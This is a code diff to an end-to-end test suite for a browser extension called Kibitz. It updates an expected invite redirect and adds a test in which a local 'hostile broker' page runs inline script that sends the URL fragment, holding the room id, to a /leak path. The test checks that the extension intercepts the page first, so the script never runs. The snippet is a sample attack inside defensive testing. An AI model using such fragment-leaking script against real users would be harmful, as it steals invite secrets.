@@ -89,7 +89,9 @@ describe.sequential('a clickable invite', () => {
     // The invite page hands over to the extension before its own load finishes, so Playwright
     // may report that first navigation as aborted: what counts is where the tab ends up.
     await tab.goto(invite, { waitUntil: 'commit' });
-    await expect.poll(() => tab.url(), POLL).toMatch(/^chrome-extension:\/\/[a-p]{32}\/join\.html#invite=/);
+    // Kibitz took the click over before the broker's page loaded: the address came in the
+    // query, the room in the fragment the browser carried across the redirect.
+    await expect.poll(() => tab.url(), POLL).toMatch(/^chrome-extension:\/\/[a-p]{32}\/join\.html\?via=http:\/\/127\.0\.0\.1:\d+\/join#v=1&r=/);
     const name = tab.getByRole('textbox', { name: 'Your name', exact: true });
     await name.waitFor({ timeout: 30_000 });
     // The join screen says where the call is signalled: the broker the invite names.
@@ -109,6 +111,28 @@ describe.sequential('a clickable invite', () => {
       expect(new URL(url).pathname, url).toMatch(/^\/(join|favicon\.ico)$/);
     }
     expect(must(broker, 'broker').output()).not.toContain(roomId);
+  });
+
+  step('a hostile broker never gets to run its invite page where Kibitz is installed', async () => {
+    // Its /join page would read the room from the fragment and send it home.
+    const hits: string[] = [];
+    const evil = http.createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.writeHead(200, { 'content-type': 'text/html' });
+      res.end('<!doctype html><title>Join</title><script>new Image().src = "/leak?" + encodeURIComponent(location.hash)</script>');
+    });
+    const port = await listen(evil, '127.0.0.1');
+    try {
+      const tab = await must(B, 'guest').context.newPage();
+      await tab.goto(`http://127.0.0.1:${port}/join#v=1&r=${roomId}&g=open`, { waitUntil: 'commit' }).catch(() => undefined);
+      await expect.poll(() => tab.url(), POLL).toMatch(/\/join\.html\?via=/);
+      // Bea is in a call already, so the join screen says that (and joins nothing).
+      await tab.getByRole('heading', { name: 'You are already in a call' }).waitFor({ timeout: 30_000 });
+      await tab.close();
+      expect(hits).toEqual([]);
+    } finally {
+      evil.close();
+    }
   });
 
   step('in a browser without Kibitz the invite page says how to get it, and sends nothing', async () => {
